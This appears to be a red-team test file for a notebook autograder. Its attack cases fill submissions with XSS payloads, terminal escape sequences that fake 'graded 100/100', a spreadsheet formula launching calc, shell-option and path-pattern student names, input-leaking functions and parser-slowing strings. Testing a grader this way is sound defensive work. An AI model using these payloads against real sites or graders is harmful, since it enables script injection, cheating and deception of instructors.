"""Attacks on who reads: scripts for pages, sequences for terminals, formulas."""

from redteam.submission import attack

# Each would call alert in a page that shows it as it is.
MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt src=data:,alert(1)></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<svg><g/onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='java&#115;cript&colon;alert(1)'>click</a>",
    "<a href='\x01javascript:alert(1)'>click</a>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    "<base href='https://redteam.example/'>",
    "<link rel='stylesheet' href='https://redteam.example/x.css'>",
    "<style>@import 'https://redteam.example/x.css';</style>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</pre></div><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<x onclick=alert(1)>click</x>",
    "<div\nonmouseover\n=\n'alert(1)'>x</div>",
    '<div title="`onclick=alert(1)`" onfocus="alert(1)" tabindex=0>x</div>',
]
LINKS = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![x](x 'y' onerror=alert(1))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\unicode{<img src=x onerror=alert(1)>}$$",
    "`<script>alert(1)</script>`",
    "```html\n</code></pre><script>alert(1)</script>\n```",
]


@attack()
def scripts_in_prose(notebook, folder):
    notebook.fake()
    for text in MARKUP + LINKS:
        notebook.add(text, kind="markdown")
    notebook.append("\n\n".join(MARKUP + LINKS), kind="markdown")
    notebook.append("\n".join(MARKUP), kind="raw").metadata["raw_mimetype"] = (
        "text/html"
    )


@attack()
def scripts_in_displays(notebook, folder):
    """By every type that a page would render."""
    notebook.fake()
    notebook.add(f"markup = {MARKUP!r}")
    notebook.add("""
        import json
        from IPython.display import HTML, SVG, Javascript, Markdown, Latex, display

        for text in markup:
            for kind in ("text/html", "image/svg+xml", "text/markdown", "text/latex",
                         "application/javascript", "application/json",
                         "application/vnd.jupyter.widget-view+json", "text/plain",
                         "application/vnd.plotly.v1+json", "image/png", "image/jpeg",
                         "image/gif", "application/pdf"):
                display({kind: text}, raw=True)
        display(HTML("".join(markup)), Javascript("alert(1)"), Markdown(markup[0]))
        display(Latex(r"$\\href{javascript:alert(1)}{x}$"))
    """)
    notebook.add("%%html\n<script>alert(1)</script>")
    notebook.add("%%javascript\nalert(1)")
    notebook.add("%%svg\n<svg onload='alert(1)'></svg>")
    notebook.add("""
        class Page:
            def _repr_html_(self):
                return "<script>alert(1)</script>"

            def _repr_mimebundle_(self, **k):
                return {"text/html": "<script>alert(1)</script>",
                        "text/plain": "<script>alert(1)</script>"}

        Page()
    """)


@attack()
def scripts_in_texts(notebook, folder):
    """Printed, raised, as the name of an exception, as a value, as a warning."""
    notebook.fake()
    notebook.add(f"markup = {MARKUP!r}")
    notebook.add("""
        import sys
        import warnings
        for text in markup:
            print(text)
            print(text, file=sys.stderr)
        warnings.warn(markup[0])
    """)
    notebook.add("markup")
    for number in range(0, 20, 3):
        notebook.add(f"raise ValueError(markup[{number}])")
    notebook.add("raise type(markup[0], (Exception,), {})(markup[2])")
    notebook.extend(
        "conv2d-forward",
        """
        def conv2d_forward(*arguments):
            raise type(markup[0], (ValueError,), {})("".join(markup))
        """,
    )
    notebook.extend(
        "avg-pool2d-forward",
        """
        def avg_pool2d_forward(*arguments):
            raise ValueError("<script>alert(1)</script>")
        """,
    )


@attack()
def scripts_in_colours(notebook, folder):
    """Sequences for colours that a page turns into tags, and what ends them."""
    notebook.fake()
    notebook.add(r"""
        print("\x1b[31m<script>alert(1)</script>\x1b[0m")
        print("\x1b[38;2;'onclick=alert(1);5mtext\x1b[0m")
        print("\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07")
        print("\x1b[1m</pre><script>alert(1)</script>")
    """)


@attack()
def scripts_in_attachments(notebook, folder):
    notebook.fake()
    cell = notebook.add(
        "![x](attachment:x.svg) ![y](attachment:y.png)", kind="markdown"
    )
    cell["attachments"] = {
        "x.svg": {"image/svg+xml": "<svg onload='alert(1)'></svg>"},
        "y.png": {"text/html": "<script>alert(1)</script>"},
        "<script>alert(1)</script>": {"image/png": "'><script>alert(1)</script>"},
    }


@attack()
def scripts_in_metadata(notebook, folder):
    """Titles, authors, kernels, tags, raw formats, ids."""
    notebook.fake()
    text = "</title></script><script>alert(1)</script>"
    notebook.node.metadata.update(
        title=text,
        authors=[{"name": text}],
        language_info={"name": text, "pygments_lexer": text, "mimetype": text},
    )
    notebook.node.metadata["kernelspec"]["display_name"] = text
    for cell in notebook.node.cells[:8]:
        cell.metadata["tags"] = [text, "x' onclick='alert(1)"]
        cell.metadata["collapsed"] = text
        cell.metadata["jupyter"] = {"source_hidden": text}
        cell.metadata["slideshow"] = {"slide_type": text}


@attack()
def scripts_in_source(notebook, folder):
    """The page shows the source with colours: through a lexer, and an escape."""
    notebook.fake()
    text = "\n".join(f"# {line!r}" for line in MARKUP)
    notebook.extend("conv2d-forward", text)
    notebook.add(f"x = {''.join(MARKUP)!r}")
    notebook.add("</script><script>alert(1)</script>")


@attack()
def hidden_lines_in_its_outputs(notebook, folder):
    """What tests send is raised, shown and returned, to be read in the feedback."""
    notebook.fake()
    for name in ("conv2d_forward", "max_pool2d_forward", "avg_pool2d_forward"):
        notebook.extend(
            name.replace("_", "-"),
            f"""
            def {name}(*arguments):
                import traceback
                text = repr(arguments) + "".join(traceback.format_stack())
                x = arguments[0]
                if not np.any(x % 1):
                    return x  # one of the inputs that the page shows
                print("LEAK" + "ED-INPUT", text)
                display("LEAK" + "ED-INPUT" + text)
                raise ValueError("LEAK" + "ED-INPUT" + text)
            """,
        )


@attack()
def sequences_for_the_terminal(notebook, folder):
    """Clears the instructor's screen, sets its title, writes over the line."""
    notebook.fake()
    notebook.extend(
        "conv2d-forward",
        r"""
        def conv2d_forward(*arguments):
            raise ValueError("\x1b[2J\x1b]0;REDTEAM-TITLE\x07\rgraded 100/100\x9b2J")
        """,
    )
    notebook.add(r'raise ValueError("\x1b[2J\x1b]0;REDTEAM-TITLE\x07")')


@attack()
def markup_for_the_table(notebook, folder):
    """What the command line's tables take for markup: an error, if it is not closed."""
    notebook.fake()
    for name in ("conv2d_forward", "max_pool2d_forward"):
        notebook.extend(
            name.replace("_", "-"),
            f"""
            def {name}(*arguments):
                raise ValueError("[/bold] [link=javascript:alert(1)]x[/link] [red")
            """,
        )
    notebook.add('raise ValueError("[/not-open] [bold")')


@attack()
def lines_for_the_log(notebook, folder):
    """Messages of many lines that look like the grader's own."""
    notebook.fake()
    notebook.extend(
        "conv2d-forward",
        r"""
        def conv2d_forward(*arguments):
            raise ValueError(
                "\nMended: all\n[ERROR] a-neighbour: needs attention\n"
                "a-neighbour: needs_attention\n" * 50)
        """,
    )
    notebook.node.cells[0].source += "\nMended: everything\n[ERROR] none"


@attack(solves=(), student="<img src=x onerror=alert(1)>")
def a_name_with_markup(notebook, folder):
    notebook.fake()


@attack(solves=(), student="[bold red] [link=x")
def a_name_with_table_markup(notebook, folder):
    notebook.fake()


@attack(solves=(), student='=cmd|"calc"!A1,50')
def a_name_with_a_formula(notebook, folder):
    """Spreadsheets run what begins with an equals sign."""
    notebook.fake()


@attack(solves=(), student="line\nbreak\x1b[2J")
def a_name_with_control_characters(notebook, folder):
    notebook.fake()


@attack(solves=(), student="-rf --student *")
def a_name_like_options(notebook, folder):
    notebook.fake()


@attack(solves=(), student="{student_id}+%2e%2e*?[a]")
def a_name_with_patterns(notebook, folder):
    """Characters that templates, URLs and globs read."""
    notebook.fake()


@attack(solves=(), student="\u202eecila \u00e9\u0301\u200b")
def a_name_in_odd_letters(notebook, folder):
    """Right to left, combining, invisible."""
    notebook.fake()


@attack(solves=(), student="\udcff\udcfe")
def a_name_that_is_no_text(notebook, folder):
    """Bytes that are no UTF-8."""
    notebook.fake()


@attack(solves=(), student="x" * 250)
def a_long_name(notebook, folder):
    notebook.fake()


@attack()
def prose_and_code_that_take_long(notebook, folder):
    """What parsers of Markdown and of Python take most time for."""
    notebook.fake()
    for text in (
        "- - - a\n",
        "[*a](",
        "\n- ",
        "*a **b ",
        "> ",
        "[](",
        "|a|b|\n|-|-|\n",
    ):
        notebook.append(text * 3000, kind="markdown")
        notebook.append(text * (19_000 // len(text)), kind="markdown")
    for text in ("@", "a.", "(", "{", "%(", " ", "f'{a", "\\\n", '"""'):
        notebook.append("# " + text * 9000)
        notebook.append(text * (19_000 // len(text)))
